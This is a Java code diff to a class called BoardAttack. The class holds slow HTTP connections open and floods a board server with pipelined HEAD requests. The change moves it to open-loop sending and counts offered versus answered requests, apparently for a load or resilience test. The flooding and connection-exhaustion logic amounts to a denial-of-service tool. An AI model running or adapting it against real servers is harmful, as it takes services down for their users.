@@ -21,7 +21,8 @@ final class BoardAttack implements AutoCloseable {
   private final URI link;
   private final String host;
   private final String cookie;
-  private final AtomicLong requests = new AtomicLong();
+  private final AtomicLong offered = new AtomicLong();
+  private final AtomicLong answered = new AtomicLong();
   private final List<Socket> slow = new ArrayList<>();
   private List<Thread> threads = List.of();
   private long started;
@@ -69,22 +70,26 @@ final class BoardAttack implements AutoCloseable {
       case "off" -> end();
       default -> {}
     }
-    double rate = requests.get() / Math.max(1e-9, nanos / 1e9);
+    double seconds = Math.max(1e-9, nanos / 1e9);
     return order.equals("rate")
-        ? String.valueOf(rate)
-        : String.format(Locale.ROOT, "%d requests, %.0f a second", requests.get(), rate);
+        ? String.valueOf(offered.get() / seconds)
+        : String.format(
+            Locale.ROOT,
+            "%.0f requests a second, %.0f of them answered",
+            offered.get() / seconds,
+            answered.get() / seconds);
   }
 
   private void begin() throws IOException {
     if (!threads.isEmpty()) {
       return;
     }
-    started = System.nanoTime();
     for (int i = 0; i < SLOW; i++) {
       var socket = connect();
       send(socket, "GET /api/events HTTP/1.1\r\n" + host + cookie + "\r\n");
       slow.add(socket);
     }
+    started = System.nanoTime();
     List<Thread> begun = new ArrayList<>();
     for (int i = 0; i < THREADS; i++) {
       begun.add(Thread.ofPlatform().daemon().start(this::ask));
@@ -106,18 +111,16 @@ final class BoardAttack implements AutoCloseable {
     slow.clear();
   }
 
-  /** One request after another, each at its time. */
+  /** One request after another, each at its time, whether the last one was answered or not. */
   private void ask() {
     var request = "HEAD /board.js HTTP/1.1\r\n" + host + cookie + "\r\n";
     try (var socket = connect()) {
-      var lines = lines(socket);
+      var answers = lines(socket);
+      Thread.ofPlatform().daemon().start(() -> count(answers));
       long next = System.nanoTime();
       while (!Thread.interrupted()) {
         send(socket, request);
-        for (var line = lines.readLine(); line != null && !line.isEmpty(); ) {
-          line = lines.readLine();
-        }
-        requests.incrementAndGet();
+        offered.incrementAndGet();
         next += REQUEST_NANOS;
         long early = next - System.nanoTime();
         if (early > 0) {
@@ -126,6 +129,18 @@ final class BoardAttack implements AutoCloseable {
       }
     } catch (IOException | InterruptedException ended) {
       Thread.currentThread().interrupt();
+    }
+  }
+
+  private void count(BufferedReader answers) {
+    try {
+      for (var line = answers.readLine(); line != null; line = answers.readLine()) {
+        if (line.isEmpty()) {
+          answered.incrementAndGet();
+        }
+      }
+    } catch (IOException ended) {
+      // the load is over
     }
   }
 
